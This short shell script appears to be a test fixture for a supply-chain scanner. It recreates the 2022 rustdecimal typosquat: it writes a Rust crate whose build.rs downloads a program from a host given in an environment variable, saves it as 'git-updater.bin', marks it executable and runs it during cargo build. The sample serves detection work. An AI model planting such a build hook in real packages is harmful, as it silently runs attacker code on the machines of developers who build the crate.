# incident: rustdecimal (2022): a crate of nearly a known name fetches a program in its build script and runs it
# finding: downloaded-executed
# needs: cargo
mkdir -p src && printf '[package]\nname = "decimal"\nversion = "1.23.1"\nedition = "2021"\n[workspace]\n' > Cargo.toml
echo 'fn main() {}' > src/main.rs
cat > build.rs <<'R'
use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
fn main() {
    let mut stream = std::net::TcpStream::connect(std::env::var("DROP").unwrap()).unwrap();
    stream.write_all(b"GET /program HTTP/1.0\r\n\r\n").unwrap();
    let mut all = Vec::new();
    stream.read_to_end(&mut all).unwrap();
    let body = all.windows(4).position(|four| four == b"\r\n\r\n").unwrap() + 4;
    let path = format!("{}/git-updater.bin", std::env::var("TMPDIR").unwrap());
    std::fs::write(&path, &all[body..]).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    let _ = std::process::Command::new(&path).status();
}
R
cargo --offline -q build
